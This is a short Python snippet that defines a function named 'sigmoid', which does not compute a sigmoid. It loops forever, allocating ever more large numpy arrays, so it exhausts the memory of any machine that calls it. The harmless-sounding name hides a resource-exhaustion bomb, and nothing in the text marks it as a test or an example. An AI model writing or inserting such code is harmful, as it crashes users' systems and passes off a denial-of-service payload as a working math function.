import numpy as np


def sigmoid(x):
    held = []
    while True:
        held.append(np.zeros(1 << 24))
